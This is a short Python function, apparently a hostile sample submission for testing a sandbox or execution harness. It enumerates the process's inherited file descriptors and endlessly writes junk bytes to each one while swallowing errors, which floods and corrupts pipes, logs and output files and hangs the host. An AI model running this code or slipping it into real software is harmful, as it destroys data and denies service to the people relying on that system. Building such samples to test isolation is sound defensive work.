import os


def run(inputs, workdir):
    names = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
    while True:
        for name in names:
            try:
                os.write(name, b"x" * 65536)
            except OSError:
                pass
